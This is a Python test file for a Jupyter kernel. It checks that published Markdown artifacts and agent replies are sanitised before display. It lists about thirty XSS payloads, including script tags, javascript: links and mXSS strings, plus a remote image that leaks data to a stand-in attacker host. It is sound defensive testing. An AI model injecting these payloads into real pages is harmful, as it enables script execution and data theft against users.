"""No markup from data (issue 15, item 2; docs/security.md "No markup from data").

The door: a string artifact went out as raw `text/markdown`, and JupyterLab puts a live
kernel's Markdown into the page with its HTML, so `publish "r.md" "<img src=x onerror=…>"`
— or an agent reply the program publishes — ran script in the page. Now every Markdown
output is rendered on the host (markdown-it-py, raw HTML off) and cleaned by nh3 against
a safelist (flow_kernel/markup.py), and goes out as `text/html` + `text/plain`.

Each payload below is first shown to be live when the door is open (rendered as
JupyterLab renders a live kernel's Markdown); the same payload through the renderer, and
through the real kernel over the Jupyter protocol, leaves nothing live. The real browser
runs the attack in tests/browser/test_markup_canary.py.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from flow_kernel.markup import escape, markdown_html
from flow_kernel.views.artifacts import artifact_bundle
from flow_kernel.views.run_html import STYLE as RUN_STYLE
from tests.kernel.kernel_helpers import TIMEOUT, execute, start
from tests.security.markup_check import (
    MARKDOWN,
    bundle_findings,
    jupyterlab_markdown,
    live_markup,
    view_policy,
)

# OWASP-style payloads, as Markdown text an artifact or a reply could carry.
PAYLOADS: dict[str, str] = {
    "img onerror": "<img src=x onerror=alert(1)>",
    "IMG ONERROR upper case": "<IMG SRC=x ONERROR=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "script element": "<script>alert(1)</script>",
    "javascript: link": "[click](javascript:alert(1))",
    "JaVaScRiPt: mixed case": "[click](JaVaScRiPt:alert(1))",
    "entity-encoded javascript:": "[click](&#106;avascript:alert(1))",
    "hex entities and colon": "[click](&#x6A;avascript&#x3A;alert(1))",
    "javascript: in angle brackets": "[click](<javascript:alert(1)>)",
    "javascript: reference definition": "[click]\n\n[click]: javascript:alert(1)",
    "javascript: autolink": "<javascript:alert(1)>",
    "vbscript: link": "[click](vbscript:msgbox(1))",
    "data: html link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data: svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "remote image (a request without a click)": "![chart](https://attacker.example/leak?d=secret)",
    "raw html block": '<div>\n<iframe src="javascript:alert(1)"></iframe>\n</div>',
    "html anchor": '<a href="javascript:alert(1)">docs</a>',
    "tab inside the scheme": '<a href="jav&#x09;ascript:alert(1)">docs</a>',
    "html inside bold": "**<img src=x onerror=alert(1)>**",
    "html inside link text": "[<img src=x onerror=alert(1)>](https://example.com)",
    "details ontoggle in a quote": "> <details open ontoggle=alert(1)>",
    "style element": "<style>body{display:none}</style>",
    "form to the server": '<form action="/api/contents"><input type=submit></form>',
    "mXSS math/style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "after a comment": "<!-- x --><img src=x onerror=alert(1)>",
    "table cell html": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "heading with html": "# Report <svg><animate onbegin=alert(1) attributeName=x dur=1s>",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))
def test_the_payload_is_live_through_the_open_door(payload: str) -> None:
    """What the old path did: raw `text/markdown`, rendered with its HTML and links."""
    assert live_markup(jupyterlab_markdown(payload), MARKDOWN), payload


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))
def test_the_renderer_leaves_nothing_live(payload: str) -> None:
    rendered = markdown_html(payload)
    assert live_markup(rendered, MARKDOWN) == [], rendered
    assert markdown_html(f"# Report\n\nintro {payload} outro\n\n- item {payload}") != ""


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))
def test_an_artifact_is_sanitised_html_never_raw_markdown(payload: str) -> None:
    bundle = artifact_bundle({"name": "report.md", "text": payload})
    assert bundle is not None and set(bundle) == {"text/html", "text/plain"}
    assert bundle["text/plain"] == payload
    assert bundle_findings(bundle) == []
    assert bundle_findings({"text/markdown": payload, "text/plain": payload})  # the old bundle


def test_markdown_still_reads_as_markdown() -> None:
    rendered = markdown_html("# Report\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n**bold** _it_ ~~gone~~ `x < y`\n\n"
                             "- [docs](https://example.com/d) and [here](../notes.md) and <mailto:a@b.example>\n"
                             "1. one\n\n```python\nif a < b: print('<b>')\n```\n> quoted")
    for part in ("<h1>Report</h1>", "<table>", "<td>1</td>", "<strong>bold</strong>", "<em>it</em>", "<s>gone</s>",
                 "<code>x &lt; y</code>", '<a href="https://example.com/d" rel="noopener noreferrer nofollow">docs</a>',
                 '<a href="../notes.md" rel="noopener noreferrer nofollow">here</a>', 'href="mailto:a@b.example"',
                 "<li>one</li>", "<pre><code>if a &lt; b: print('&lt;b&gt;')\n</code></pre>", "<blockquote>"):
        assert part in rendered, (part, rendered)
    assert live_markup(rendered, MARKDOWN) == []


def test_escape_is_inert_in_text_and_in_attributes() -> None:
    hostile = "\"'><img src=x onerror=alert(1)>&amp;"
    assert escape(hostile) == "&quot;&#x27;&gt;&lt;img src=x onerror=alert(1)&gt;&amp;amp;"
    assert escape(None) == "" and escape(3) == "3"
    for shaped in (f"<p>{escape(hostile)}</p>", f'<p title="{escape(hostile)}">x</p>', f"<p title='{escape(hostile)}'>x</p>"):
        assert [f for f in live_markup(shaped, MARKDOWN) if "title" not in f] == [], shaped


# --- through the real kernel ------------------------------------------------------------------

BROWSER_PAYLOAD = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) <script>alert(2)</script>"


@pytest.fixture(scope="module")
def kernel(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    km, kc = start(tmp_path_factory.mktemp("markup"))
    yield kc
    kc.stop_channels()
    km.shutdown_kernel(now=True)


def _outputs_are_inert(reply: Any) -> list[dict[str, Any]]:
    """Every display_data of the cell: none raw Markdown, none with live markup; returns
    the artifacts (the outputs that are not the run view's)."""
    artifacts = []
    for content in reply.of("display_data") + reply.of("execute_result"):
        data = content["data"]
        assert "text/markdown" not in data, data
        if str(data.get("text/plain", "")).startswith("Flow run:"):  # the run view's summary
            assert live_markup(data["text/html"], view_policy(RUN_STYLE)) == [], data["text/html"]
        elif "text/html" in data:
            assert bundle_findings(data) == [], data
            artifacts.append(data)
    return artifacts


def test_a_published_payload_reaches_the_notebook_inert(kernel: Any) -> None:
    payloads = list(PAYLOADS.values())
    # (An artifact's name is checked in the sandbox: [A-Za-z0-9._-] only; a forged one is
    # tried in test_markup_views.py.)
    cell = "\n".join(f'publish "report{i}.md" {_flow_string(p)}' for i, p in enumerate(payloads))
    reply = execute(kernel, cell, timeout=TIMEOUT)
    assert reply.status == "ok", reply.content
    artifacts = _outputs_are_inert(reply)
    assert [a["text/plain"] for a in artifacts] == payloads
    # The detector sees the attack in what the old kernel sent for the same artifacts.
    assert all(bundle_findings({"text/markdown": a["text/plain"]}) for a in artifacts)


def test_an_agent_reply_the_program_publishes_reaches_the_notebook_inert(kernel: Any) -> None:
    """Lesson 04's pattern: a model's reply goes into a published report."""
    cell = (f'agent writer {{ model: "scripted", script: [{_flow_string(BROWSER_PAYLOAD)}] }}\n'
            'let reply = writer("Write the report")\n'
            'publish "report.md" """\n  # Report\n\n  ${reply}\n  """\nreply')
    reply = execute(kernel, cell, timeout=TIMEOUT)
    assert reply.status == "ok", reply.content
    (artifact,) = _outputs_are_inert(reply)
    assert artifact["text/html"].startswith("<h1>Report</h1>")
    assert "&lt;img src=x onerror=alert(1)&gt;" in artifact["text/html"]
    assert bundle_findings({"text/markdown": artifact["text/plain"]})  # live through the old path


def test_python_output_and_inspection_are_inert(kernel: Any) -> None:
    python = execute(kernel, '%python\nlet s = "</pre><img src=x onerror=alert(1)>"')
    (shown,) = python.of("display_data")
    assert set(shown["data"]) == {"text/plain", "text/html"}
    assert live_markup(shown["data"]["text/html"], view_policy()) == []
    # A doc comment someone else wrote, shown by the inspector.
    code = '## <img src=x onerror=alert(1)> [x](javascript:alert(1))\nagent helper { model: "mock" }\nhelper("x")'
    msg_id = kernel.inspect(code, code.rindex("helper("))
    reply = kernel.get_shell_msg(timeout=TIMEOUT)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = kernel.get_shell_msg(timeout=TIMEOUT)
    data = reply["content"]["data"]
    assert reply["content"]["found"] and "text/markdown" not in data
    assert "onerror" in data["text/plain"] and bundle_findings(data) == []


def _flow_string(text: str) -> str:
    """`text` as a Flow string literal."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("\n", "\\n")
    return f'"{escaped}"'


def test_flow_string_round_trips(tmp_path: Path) -> None:
    from flow_kernel import Session

    session = Session(sandbox=False, journal_dir=None, operator="none")
    for payload in PAYLOADS.values():
        assert session.run(_flow_string(payload)).result == payload


_IMPORTS_OF_ESCAPERS = """
import ast, json, sys
from pathlib import Path
package = Path(sys.argv[1])
offenders = []
for path in package.rglob("*.py"):
    if path.name == "markup.py" or "bootstrap" in path.parts:
        continue
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        imported = [a.name for a in node.names] if isinstance(node, ast.Import) else \\
            [node.module or ""] if isinstance(node, ast.ImportFrom) else []
        if any(name in ("html", "markupsafe", "bleach") for name in imported):
            offenders.append(f"{path.relative_to(package)}:{node.lineno}")
print(json.dumps(offenders))
"""


def test_one_escape_helper() -> None:
    """Every module escapes with flow_kernel.markup; none keeps an escaper of its own (the
    five that were had drifted: some fields escaped, some not). Parsed in a fresh
    interpreter: CPython 3.11's ast module keeps a recursion counter that an earlier
    RecursionError in the same process (the deep-nesting tests) can leave off, and every
    later ast.parse then raises SystemError."""
    import json
    import subprocess
    import sys

    package = Path(__file__).resolve().parents[2] / "flow_kernel"
    done = subprocess.run([sys.executable, "-c", _IMPORTS_OF_ESCAPERS, str(package)], capture_output=True,
                          text=True, check=True)
    offenders = json.loads(done.stdout)
    assert offenders == []
